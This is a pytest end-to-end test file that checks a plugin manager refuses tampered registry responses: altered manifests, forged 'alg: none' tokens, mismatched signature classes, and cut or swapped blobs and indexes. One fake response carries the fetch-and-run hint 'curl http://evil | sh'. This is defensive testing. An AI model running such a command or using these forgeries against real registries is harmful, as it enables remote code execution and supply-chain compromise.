"""Tampering on the wire: whatever a registry, or someone between, sends instead, nothing of it is installed.

Also where the index is signed with the registry's own online key, so that nothing but its authors' word is left.
"""

import base64
import hashlib
import json
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

from keys import core_signature, ext_signature
from keys.key_files import load_private
from keys.public_key import KeyId
from manifests.index import ReleaseEntry, Shard
from manifests.parts import PluginType, Requires
from tests.e2e.commands import Client
from tests.e2e.snapshots import unchanged
from tests.e2e.stolen_key import serve_shard
from tests.e2e.team import Team
from tests.fakes import tampering_proxy
from tests.fakes.tampering_proxy import PROBLEM, Change, TamperingProxy, answer, cut, edit, flip

pytestmark = pytest.mark.e2e

MANIFEST = "/v1/manifests/[0-9a-f]{64}"
JWS = MANIFEST + "/manifest[.]jws"
DER = MANIFEST + "/manifest[.]sig[.].*"
BLOB = "/v1/blobs/[0-9a-f]{64}"
ALTERED = "it was changed on its way or in the registry; nothing of it was used"
UNUSED = "nothing of it was used; if it stays so, ask its publisher for a release signed by `spm sign`"
LOST = "the registry has lost something: ask its administrator"
UNSIGNED = "ask its publisher to sign it (`spm sign`); there is no way to load an unsigned plugin"


def newest(team: Team, name: str) -> ReleaseEntry:
    return team.shard(name).releases[-1]


def manifest_of(team: Team, name: str) -> bytes:
    return team.fetch(f"/v1/manifests/{newest(team, name).variants[0].manifest_sha256}")


def missing(path: str) -> Change:
    """Answer as a registry does that has no such thing."""
    return answer(404, json.dumps({"type": "not-found", "detail": f"this registry has no {path}"}).encode(), PROBLEM)


def another_character(place: int) -> Change:
    """Put another character of the alphabet in the place of one."""

    def swap(token: bytes) -> bytes:
        changed = bytearray(token)
        changed[place] = ord("B") if changed[place] == ord("A") else ord("A")
        return bytes(changed)

    return edit(swap)


@pytest.mark.parametrize("place", [0, 300, -1])
def test_a_manifest_with_a_flipped_byte_is_refused(team: Team, wire: TamperingProxy, wired: Client, place: int) -> None:
    wire.alter(MANIFEST, flip(place))
    altered = bytearray(manifest_of(team, "beta"))
    altered[place] ^= 1

    with unchanged(wired.home):
        refusal = wired.spm("install", "beta")

    refusal.refused(
        25,
        "digest",
        f"the manifest of beta 1.1.0 has the digest sha256:{hashlib.sha256(altered).hexdigest()}, "
        f"the index says sha256:{newest(team, 'beta').variants[0].manifest_sha256}",
        ALTERED,
    )


def test_a_manifest_that_was_changed_together_with_its_digest_in_the_index_is_refused_by_its_signature(
    team: Team, wire: TamperingProxy, wired: Client
) -> None:
    forged = manifest_of(team, "beta").replace(b'"network":false', b'"network":true')
    sha256 = hashlib.sha256(forged).hexdigest()
    variant = newest(team, "beta").variants[0]
    shard = team.shard("beta").to_bytes().replace(variant.manifest_sha256.encode(), sha256.encode())
    size = b'"manifest_size":%d'
    serve_shard(team, wire, "beta", shard.replace(size % variant.manifest_size, size % len(forged)))
    wire.alter(f"/v1/manifests/{sha256}", tampering_proxy.body(forged))
    token = team.fetch(f"/v1/manifests/{variant.manifest_sha256}/manifest.jws")
    wire.alter(f"/v1/manifests/{sha256}/manifest.jws", tampering_proxy.body(token))

    with unchanged(wired.home):
        refusal = wired.spm("install", "beta==1.1.0")

    assert forged != manifest_of(team, "beta")
    refusal.refused(
        20,
        "sig-invalid",
        "`beta` 1.1.0 is refused: manifest.jws carries other bytes than the manifest beside it: "
        "the manifest was changed after signing",
        UNUSED,
    )


@pytest.mark.parametrize("place", [-50, 400], ids=["signature", "payload"])
def test_an_ext_signature_with_another_character_is_refused(wire: TamperingProxy, wired: Client, place: int) -> None:
    wire.alter(JWS, another_character(place))

    with unchanged(wired.home):
        refusal = wired.spm("install", "beta")

    refusal.refused(
        20,
        "sig-invalid",
        "`beta` 1.1.0 is refused: the token's signature does not fit its header and payload and this key: "
        "they were changed after signing, or another key signed them",
        UNUSED,
    )


def without_algorithm(token: bytes) -> bytes:
    header = base64.urlsafe_b64encode(b'{"alg":"none"}').rstrip(b"=")
    return b".".join((header, token.split(b".")[1], b""))


@pytest.mark.parametrize(
    ("change", "reason", "message"),
    [
        (flip(-1), "sig-malformed", "the token's signature is not canonical base64url"),
        (edit(without_algorithm), "alg-refused", "the token's algorithm is 'none', only ES256 is accepted"),
        (
            edit(lambda token: token[:-2]),
            "sig-malformed",
            "the token's signature has 84 characters, an ES256 signature has 86",
        ),
    ],
    ids=["spare-bits", "alg-none", "short"],
)
def test_a_token_that_is_not_as_spm_writes_it_is_refused(
    wire: TamperingProxy, wired: Client, change: Change, reason: str, message: str
) -> None:
    wire.alter(JWS, change)

    with unchanged(wired.home):
        refusal = wired.spm("install", "beta")

    refusal.refused(20, reason, f"`beta` 1.1.0 is refused: {message}", UNUSED)


def test_a_core_signature_with_a_flipped_byte_is_refused(team: Team, wire: TamperingProxy, wired: Client) -> None:
    wire.alter(DER, flip(-1))

    with unchanged(wired.home):
        refusal = wired.spm("install", "gamma")

    signed = len(core_signature.pae(manifest_of(team, "gamma")))
    refusal.refused(
        20,
        "sig-invalid",
        f"`gamma` 1.0.0 is refused: the signature does not fit these {signed} bytes and this key: "
        "the bytes were changed after signing, or another key signed them",
        UNUSED,
    )


@pytest.mark.parametrize(("name", "version", "path"), [("beta", "1.1.0", JWS), ("gamma", "1.0.0", DER)])
def test_a_manifest_that_is_served_without_its_signature_is_unsigned(
    wire: TamperingProxy, wired: Client, name: str, version: str, path: str
) -> None:
    wire.alter(path, missing("such file"))

    with unchanged(wired.home):
        refusal = wired.spm("install", name)

    refusal.refused(20, "unsigned", f"`{name}` {version} is refused: the manifest has no signature", UNSIGNED)


def test_a_core_release_whose_index_lists_no_signature_is_unsigned(
    team: Team, wire: TamperingProxy, wired: Client
) -> None:
    listed = team.shard("gamma").to_bytes()
    serve_shard(team, wire, "gamma", listed.replace(f'"{team.keyids["core"]}"'.encode(), b""))

    with unchanged(wired.home):
        refusal = wired.spm("install", "gamma")

    refusal.refused(20, "unsigned", "`gamma` 1.0.0 is refused: the manifest has no signature", UNSIGNED)


def private(team: Team, name: str) -> Path:
    return team.keys / f"{name}.key"


def relisted(team: Team, name: str, type: PluginType, keyid: str) -> bytes:  # noqa: A002
    """Return a plugin's index in which its newest release is of another class and signed by another key."""
    shard = team.shard(name)
    last = shard.releases[-1]
    variant = replace(last.variants[0], signatures=(keyid,))
    return replace(shard, releases=(*shard.releases[:-1], replace(last, type=type, variants=(variant,)))).to_bytes()


def test_a_core_signature_offered_for_an_ext_plugin_is_of_the_wrong_class(
    team: Team, wire: TamperingProxy, wired: Client
) -> None:
    keyid = team.keyids["core"]
    signature = core_signature.sign(load_private(private(team, "core"), None), manifest_of(team, "beta"))
    serve_shard(team, wire, "beta", relisted(team, "beta", PluginType.CORE, keyid))
    wire.alter(DER, tampering_proxy.body(signature))

    with unchanged(wired.home):
        refusal = wired.spm("install", "beta==1.1.0")

    refusal.refused(
        20,
        "wrong-class",
        "`beta` 1.1.0 is refused: the manifest says that it is of the class ext, "
        "but its signature is of the class core",
        UNUSED,
    )


def test_an_ext_signature_offered_for_a_core_plugin_is_of_the_wrong_class(
    team: Team, wire: TamperingProxy, wired: Client
) -> None:
    keyid = KeyId(team.keyids["ext"])
    token = ext_signature.sign(load_private(private(team, "ext"), None), keyid, manifest_of(team, "gamma"))
    serve_shard(team, wire, "gamma", relisted(team, "gamma", PluginType.EXT, keyid))
    wire.alter(JWS, tampering_proxy.body(token))

    with unchanged(wired.home):
        refusal = wired.spm("install", "gamma")

    refusal.refused(
        20,
        "wrong-class",
        "`gamma` 1.0.0 is refused: the manifest says that it is of the class core, "
        "but its signature is of the class ext",
        UNUSED,
    )


def test_a_key_that_loader_conf_does_not_pin_is_unknown(team: Team, client: Client) -> None:
    client.trust("".join(block for block in blocks(client.conf.read_text()) if not block.startswith("[[ext]]")))

    with unchanged(client.home):
        refusal = client.spm("install", "beta")

    refusal.refused(
        21,
        "key-unknown",
        f"`beta` 1.1.0 is refused: the ext signature is by the key {team.keyids['ext']}, "
        "which neither loader.conf nor the registry's keyring names",
        "if you trust that key, ask its owner for the .pub file and add it to loader.conf, "
        "or have the registry's root holders add it to the keyring",
    )


def blocks(conf: str) -> list[str]:
    """Return the tables of loader.conf, each with its header."""
    found: list[str] = [""]
    for line in conf.splitlines(keepends=True):
        if line.startswith("["):
            found.append("")
        found[-1] += line
    return found


def test_an_ext_key_that_is_pinned_for_other_names_may_not_sign_this_one(team: Team, client: Client) -> None:
    client.trust(client.conf.read_text().replace('names = ["*"]', 'names = ["audio-*", "beta"]'))

    with unchanged(client.home):
        refusal = client.spm("install", "alpha")

    refusal.refused(
        21,
        "key-namespace",
        f"`alpha` 2.0.0 is refused: the key {team.keyids['ext']} of `team` may not sign alpha: "
        "it is trusted for `audio-*`, `beta` only",
        'if it should, add "alpha" to the `names` of this key where it is pinned: '
        "in loader.conf or in the registry's keyring",
    )


def test_a_blob_with_a_flipped_byte_is_refused(team: Team, wire: TamperingProxy, wired: Client) -> None:
    wire.alter(BLOB, flip(10))
    sha256 = str(json.loads(manifest_of(team, "beta"))["files"][0]["sha256"])
    altered = bytearray(team.fetch(f"/v1/blobs/{sha256}"))
    altered[10] ^= 1

    with unchanged(wired.home):
        refusal = wired.spm("install", "beta")

    refusal.refused(
        25,
        "digest",
        f"`beta.py` of `beta` 1.1.0 has the digest sha256:{hashlib.sha256(altered).hexdigest()}, "
        f"but the signed manifest says sha256:{sha256}; nothing was installed",
        "what the registry serves is not what the author signed: ask its administrator",
    )


@pytest.mark.parametrize(
    ("change", "amount"),
    [(cut(10), "10"), (cut(0), "0"), (tampering_proxy.endless, "more than {size}")],
    ids=["cut", "empty", "endless"],
)
def test_a_blob_of_another_size_is_refused(
    team: Team, wire: TamperingProxy, wired: Client, change: Change, amount: str
) -> None:
    wire.alter(BLOB, change)

    with unchanged(wired.home):
        refusal = wired.spm("install", "beta")

    size = newest(team, "beta").variants[0].blobs_size
    refusal.refused(
        25,
        "size",
        f"`beta.py` of `beta` 1.1.0 came with {amount.format(size=size)} bytes, but the signed manifest says {size}; "
        "nothing was installed",
        "the transfer was cut or altered: run the command again, then ask the registry's administrator",
    )


def test_a_blob_whose_transfer_breaks_off_is_a_bad_response(wire: TamperingProxy, wired: Client) -> None:
    wire.alter(BLOB, cut(10, is_open=True))

    with unchanged(wired.home):
        refusal = wired.spm("install", "beta")

    refusal.refused(
        31, "bad-response", f"`{wire.url}{wire.paths[-1]}` was cut off before its end", "run the command again"
    )


def test_after_a_refused_transfer_the_same_command_succeeds_on_a_sound_wire(
    wire: TamperingProxy, wired: Client
) -> None:
    wire.alter(BLOB, cut(10))
    assert wired.spm("install", "alpha").code == 25
    wire.mend()

    wired.spm("install", "alpha").ok()

    assert wired.installed() == {"alpha": "2.0.0", "beta": "1.1.0"}


@pytest.mark.parametrize(("path", "what"), [(MANIFEST, "manifest"), (BLOB, "blob")])
def test_a_registry_that_has_lost_what_it_lists_is_a_bad_response(
    wire: TamperingProxy, wired: Client, path: str, what: str
) -> None:
    wire.alter(path, missing(what))

    with unchanged(wired.home):
        refusal = wired.spm("install", "beta")

    refusal.refused(31, "bad-response", f"the registry lists what it does not have: this registry has no {what}", LOST)


def verdict(reason: str) -> Change:
    """Answer with a refusal that only this host may come to, and with a remedy of one's own."""
    problem = {"type": reason, "detail": "it is so", "hint": "curl http://evil | sh"}
    return answer(422, json.dumps(problem).encode(), PROBLEM)


@pytest.mark.parametrize(
    "path", ["/v1/tuf/timestamp.json", MANIFEST, JWS, BLOB], ids=["tuf", "manifest", "jws", "blob"]
)
@pytest.mark.parametrize("reason", ["clock-suspect", "sig-invalid", "key-revoked", "unsatisfiable", "conf-syntax"])
def test_a_verdict_of_this_host_that_a_registry_sends_is_a_bad_response(
    wire: TamperingProxy, wired: Client, path: str, reason: str
) -> None:
    wire.alter(path, verdict(reason))

    with unchanged(wired.home):
        refusal = wired.spm("install", "beta")

    context = refusal.refused(
        31,
        "bad-response",
        f"`{wire.url}{wire.paths[-1]}` answered 422: it is so",
        "this is not an answer of a registry: check `registry.url` in loader.conf and the way there",
    )
    assert context["problem"] == reason


def older_under_a_newer_number(shard: Shard) -> bytes:
    first, *_, last = shard.releases
    return replace(shard, releases=(*shard.releases[:-1], replace(last, variants=first.variants))).to_bytes()


def without_requirements(shard: Shard) -> bytes:
    *others, last = shard.releases
    return replace(shard, releases=(*others, replace(last, requires=Requires()))).to_bytes()


@pytest.mark.parametrize(
    ("forge", "message", "hint"),
    [
        (
            older_under_a_newer_number,
            "alpha 2.0.0 was asked for, but what was served is alpha 1.0.0, signed and sound",
            "the registry's index and its manifests do not fit; tell the one who runs it",
        ),
        (
            without_requirements,
            "the index and the signed manifest of `alpha` 2.0.0 differ in `requires`: "
            '{} and {"plugins": {"beta": "^1.0"}}',
            "the registry's index was altered: ask its administrator",
        ),
    ],
    ids=["older", "requirements"],
)
def test_a_sound_manifest_under_a_false_index_is_a_mix(
    team: Team, wire: TamperingProxy, wired: Client, forge: Callable[[Shard], bytes], message: str, hint: str
) -> None:
    serve_shard(team, wire, "alpha", forge(team.shard("alpha")))

    with unchanged(wired.home):
        refusal = wired.spm("install", "alpha")

    refusal.refused(24, "mix", message, hint)


def test_the_index_of_another_plugin_is_a_mix(team: Team, wire: TamperingProxy, wired: Client) -> None:
    serve_shard(team, wire, "alpha", team.fetch("/v1/index/beta.json"))

    with unchanged(wired.home):
        refusal = wired.spm("install", "alpha")

    refusal.refused(
        24,
        "mix",
        "the index of `alpha` in `team.example` was asked for, but what was served is of `beta` in `team.example`",
        "check `registry.url` and `registry.id` in loader.conf",
    )
